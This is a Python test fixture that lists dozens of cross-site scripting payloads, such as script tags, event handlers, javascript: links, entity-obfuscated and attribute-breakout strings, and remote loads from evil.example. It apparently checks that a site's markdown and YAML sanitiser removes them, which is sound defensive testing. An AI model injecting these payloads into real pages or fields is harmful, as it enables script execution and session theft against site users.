"""Attacks a pull request could carry in a case, written by us from the well-known XSS families.

Each vector is (id, where, payload): `where` is "md" for the narrative in case.md, or the path of
a case.yml field.  Every payload either calls alert() or loads from evil.example, so a test can
tell an attack that survived from the theme's own scripts.
"""

from __future__ import annotations

from typing import Any

B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>
B64_SVG = "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"  # <svg onload=alert(1)>

MD = "md"

VECTORS: list[tuple[str, Any, str]] = [
    ("script-tag", MD, "<script>alert(1)</script>"),
    ("script-mixed-case", MD, "<ScRiPt>alert(1)</sCrIpT>"),
    ("script-src", MD, '<script src="https://evil.example/x.js"></script>'),
    ("img-onerror", MD, "<img src=x onerror=alert(1)>"),
    ("img-onerror-upper", MD, '<IMG SRC="x" ONERROR="alert(1)">'),
    ("body-onload", MD, "<body onload=alert(1)>"),
    ("svg-onload", MD, "<svg onload=alert(1)>"),
    ("svg-script", MD, "<svg><script>alert(1)</script></svg>"),
    (
        "svg-animate-href",
        MD,
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>'
        '<text x="20" y="20">点我</text></a></svg>',
    ),
    ("iframe-js", MD, '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", MD, '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("object-data", MD, f'<object data="data:text/html;base64,{B64_SCRIPT}"></object>'),
    ("embed", MD, '<embed src="javascript:alert(1)">'),
    ("form-action", MD, '<form action="javascript:alert(1)"><button>提交</button></form>'),
    ("style-tag", MD, '<style>body{background:url("javascript:alert(1)")}</style>'),
    ("style-attr", MD, '<p style="background:url(javascript:alert(1))">样式</p>'),
    ("details-ontoggle", MD, "<details open ontoggle=alert(1)>"),
    ("a-href-js", MD, '<a href="javascript:alert(1)">点我</a>'),
    ("meta-refresh", MD, '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base-href", MD, '<base href="javascript:alert(1)//">'),
    ("link-css", MD, '<link rel="stylesheet" href="https://evil.example/x.css">'),
    ("comment-wrapped", MD, "<!-- x --><img src=x onerror=alert(1)><!-- y -->"),
    (
        "mathml-mutation",
        MD,
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"
        "</style></mglyph></table></mtext></math>",
    ),
    ("md-link-js", MD, "[点我](javascript:alert(1))"),
    ("md-link-mixed-case", MD, "[点我](JaVaScRiPt:alert(1))"),
    ("md-link-entity", MD, "[点我](&#106;avascript:alert(1))"),
    ("md-link-tab-entity", MD, "[点我](java&#x09;script:alert(1))"),
    ("md-link-vbscript", MD, "[点我](vbscript:msgbox(1))"),
    ("md-link-data", MD, f"[点我](data:text/html;base64,{B64_SCRIPT})"),
    ("md-image-data-svg", MD, f"![图](data:image/svg+xml;base64,{B64_SVG})"),
    ("md-reference-js", MD, "[点我][x]\n\n[x]: javascript:alert(1)"),
    ("md-autolink-js", MD, "<javascript:alert(1)>"),
    ("entity-script", MD, "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("attr-list-paragraph", MD, '一段文字\n{: onclick="alert(1)" }'),
    ("attr-list-heading", MD, '### 小标题 {: onmouseover="alert(1)" }'),
    ("yaml-name-img", ("name",), "<img src=x onerror=alert(1)>"),
    ("yaml-name-title-breakout", ("name",), "</title><script>alert(1)</script>"),
    ("yaml-summary-attr-breakout", ("summary",), '"><script>alert(1)</script>'),
    ("yaml-challenge-md-link", ("challenges", 0, "text"), "[点我](javascript:alert(1))"),
    ("yaml-outcome-entities", ("outcomes", 0, "text"), "&#60;script&#62;alert(1)&#60;/script&#62;"),
    ("yaml-practice-attr-list", ("practices", 0, "name"), '做法 {: onclick="alert(1)" }'),
    ("yaml-component-svg", ("practices", 0, "components", 0), "<svg/onload=alert(1)>"),
    ("yaml-question-a-js", ("questions", 0), '<a href="javascript:alert(1)">思考</a>'),
    ("yaml-lesson-attr-list", ("lessons", 0, "text"), '经验\n{: onclick="alert(1)" }'),
    ("yaml-source-url-js", ("sources", 0, "url"), "javascript:alert(1)"),
    ("yaml-source-url-breakout", ("sources", 0, "url"), "https://example.org/x' onmouseover='alert(1)"),
    ("yaml-contributor-svg", ("review", "contributors", 0), "<SVG ONLOAD=alert(1)>"),
]
